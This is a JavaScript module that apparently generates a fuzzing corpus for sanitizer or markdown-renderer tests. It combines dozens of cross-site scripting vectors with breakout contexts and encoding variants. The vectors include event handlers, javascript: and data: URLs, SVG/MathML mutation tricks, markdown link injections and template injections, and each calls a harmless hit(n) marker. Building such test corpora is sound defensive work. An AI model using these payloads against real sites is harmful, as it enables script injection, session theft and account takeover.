/*
 * Texts that are code where somebody takes them for markup: vectors × contexts × spellings. Each
 * calls hit(n) with a number of its own wherever it is run.
 */

/* What runs, if its markup is believed. */
const vectors = [
	n => `<script>hit(${n})</script>`,
	n => `<script type=module>hit(${n})</script>`,
	n => `<script src="data:text/javascript,hit(${n})"></script>`,
	n => `<svg><script>hit(${n})</script></svg>`,
	n => `<svg><script href="data:text/javascript,hit(${n})"/></svg>`,
	n => `<math><mtext><script>hit(${n})</script></mtext></math>`,
	n => `<img src=x onerror=hit(${n})>`,
	n => `<img src=x onerror="hit(${n})" alt="a b">`,
	n => `<img/src=x/onerror=hit(${n})//`,
	n => `<img src="x" onerror='hit(${n})'`,
	n => `<image href=x onerror=hit(${n})>`,
	n => `<picture><source srcset=x onerror=hit(${n})><img src=x onerror=hit(${n})></picture>`,
	n => `<svg onload=hit(${n})>`,
	n => `<svg/onload=hit(${n})//`,
	n => `<svg><animate onbegin=hit(${n}) attributeName=x dur=1s>`,
	n => `<svg><set onbegin=hit(${n}) attributeName=x to=y>`,
	n => `<svg><a href="javascript:hit(${n})"><text y=20>press</text></a></svg>`,
	n => `<svg><use href="data:image/svg+xml,<svg id=a onload=hit(${n})/>#a"/></svg>`,
	n => `<svg><foreignObject><img src=x onerror=hit(${n})></foreignObject></svg>`,
	n => `<svg><style><img src=x onerror=hit(${n})></style></svg>`,
	n => `<math href="javascript:hit(${n})">press</math>`,
	n => `<body onload=hit(${n})>`,
	n => `<body onpageshow=hit(${n})>`,
	n => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
	n => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
	n => `<iframe src="data:text/html,<script>parent.hit(${n})</script>"></iframe>`,
	n => `<iframe onload=hit(${n})></iframe>`,
	n => `<object data="javascript:hit(${n})"></object>`,
	n => `<object data="data:text/html,<script>parent.hit(${n})</script>"></object>`,
	n => `<embed src="javascript:hit(${n})">`,
	n => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit(${n})'/>">`,
	n => `<video onerror=hit(${n})><source onerror=hit(${n})></video>`,
	n => `<video src=x onerror=hit(${n})></video>`,
	n => `<audio src=x onerror=hit(${n})></audio>`,
	n => `<details open ontoggle=hit(${n})><summary>a</summary></details>`,
	n => `<input autofocus onfocus=hit(${n})>`,
	n => `<select autofocus onfocus=hit(${n})></select>`,
	n => `<textarea autofocus onfocus=hit(${n})></textarea>`,
	n => `<a id=x tabindex=1 autofocus onfocus=hit(${n})>a</a>`,
	n => `<div contenteditable autofocus onfocus=hit(${n})>a</div>`,
	n => `<dialog open onclose=hit(${n})><form method=dialog><button autofocus>a</button></form></dialog>`,
	n => `<marquee onstart=hit(${n})>a</marquee>`,
	n => `<p style="animation:spin 1s" onanimationstart=hit(${n})>a</p>`,
	n => `<p style="transition:all 1s;color:red" ontransitionrun=hit(${n})>a</p>`,
	n => `<style>@keyframes k{}p{animation:k 1s}</style><p onanimationend=hit(${n})>a</p>`,
	n => `<p onmouseover=hit(${n}) onpointerenter=hit(${n}) style="position:fixed;inset:0">a</p>`,
	n => `<a href="javascript:hit(${n})">press</a>`,
	n => `<a href=" &#1; javascript:hit(${n})">press</a>`,
	n => `<a href="java\tscript:hit(${n})">press</a>`,
	n => `<a href="JaVaScRiPt&colon;hit(${n})">press</a>`,
	n => `<a href="data:text/html,<script>opener.hit(${n})</script>" target=_blank>press</a>`,
	n => `<a ping="/api/auth/logout" href="javascript:hit(${n})">press</a>`,
	n => `<form action="javascript:hit(${n})"><button>press</button></form>`,
	n => `<form><button formaction="javascript:hit(${n})">press</button></form>`,
	n => `<isindex action="javascript:hit(${n})" type=submit>`,
	n => `<base href="javascript:hit(${n})//"><a href="#">press</a>`,
	n => `<meta http-equiv=refresh content="0;url=javascript:hit(${n})">`,
	n => `<meta http-equiv=refresh content="0;url=data:text/html,<script>opener.hit(${n})</script>">`,
	n => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:hit(${n}))}">`,
	n => `<link rel=modulepreload href="data:text/javascript,hit(${n})">`,
	n => `<template><script>hit(${n})</script></template>`,
	n => `<noscript><p title="</noscript><img src=x onerror=hit(${n})>">`,
	n => `<xmp><p title="</xmp><img src=x onerror=hit(${n})>">`,
	n => `<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(${n})&gt;">`,
	n => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit(${n}) src>">`,
	n => `<table><td background="javascript:hit(${n})">a</td></table>`,
	n => `<p is="x-${n}" onclick=hit(${n})>a</p>`,
	n => `[press](javascript:hit(${n}))`,
	n => `[press](<javascript:hit(${n})>)`,
	n => `[press](java&#115;cript:hit(${n}))`,
	n => `[press](javascript:hit%28${n}%29)`,
	n => `[press](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0KDEpPC9zY3JpcHQ+#${n})`,
	n => `[press](vbscript:hit(${n}))`,
	n => `[press](#" onclick="hit(${n}))`,
	n => `[press][${n}]\n\n[${n}]: javascript:hit(${n}) "t"`,
	n => `![a](x" onerror="hit(${n}))`,
	n => `![<img src=x onerror=hit(${n})>](javascript:hit(${n}) "<b>")`,
	n => `![a](https://beacon.invalid/${n}?hit(${n}))`,
	n => `<javascript:hit(${n})>`,
	n => `<https://a.invalid/" onmouseover="hit(${n})>`,
	n => `https://a.invalid/'"><img src=x onerror=hit(${n})>`,
	n => `{{constructor.constructor('hit(${n})')()}}`,
	n => `\${hit(${n})}#{hit(${n})}<%= hit(${n}) %>{@html hit(${n})}`,
	n => `'-hit(${n})-'`,
	n => `";hit(${n});//`,
	n => `\`-hit(${n})-\``,
	n => `__proto__[innerHTML]=<img src=x onerror=hit(${n})>`,
];

/* Where it stands: something that has to be left first, or that changes how it is read. */
const contexts = [
	text => text,
	text => `"> ${text}`,
	text => `'> ${text}`,
	text => `--> ${text}`,
	text => `]]> ${text}`,
	text => `</title>${text}`,
	text => `</textarea></style></script>${text}`,
	text => `<b title="${text}">a</b>`,
	text => `\`code\` ${text} \`code\``,
	text => `**${text}**`,
	text => `# ${text}`,
	text => `> - 1. ${text}`,
	text => `| a | b |\n| - | - |\n| ${text} | c |`,
	text => `\`\`\`html\n${text}\n\`\`\``,
	text => `\`\`\`${text}\nx\n\`\`\``,
	text => `~~~\n~~~ ${text}`,
	text => `<!-- ${text} -->`,
	text => `<p>\n\n${text}\n\n</p>`,
	text => `&lt;b&gt;${text}`,
	text => `[${text}](https://a.invalid/)`,
];

/* How it is spelt. */
const spellings = [
	text => text,
	text => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
	text => text.replaceAll("<", "&#x3c;").replaceAll("(", "&#40;"),
	text => text.replace(/<(\w)/g, (_, c) => `<${c.toUpperCase()}`),
	text => text.replaceAll("<", "\ufe64").replaceAll(">", "\ufe65"),
	text => text.replaceAll("<", "\\u003c").replaceAll("\"", "\\u0022"),
	text => text.replaceAll("<", "%3C").replaceAll(">", "%3E"),
];

/** `count` texts from number `first` on, of all kinds; the same each time. */
export function payloads(first, count) {
	const all = vectors.length * contexts.length * spellings.length;
	return Array.from({ length: count }, (_, i) => {
		/* A stride without a common divisor visits each combination before any comes again. */
		let at = (first + i) * 4099 % all;
		const vector = vectors[at % vectors.length];
		at = Math.floor(at / vectors.length);
		const context = contexts[at % contexts.length];
		const spelling = spellings[Math.floor(at / contexts.length)];
		return spelling(context(vector(first + i)));
	});
}

export const kinds = vectors.length * contexts.length * spellings.length;
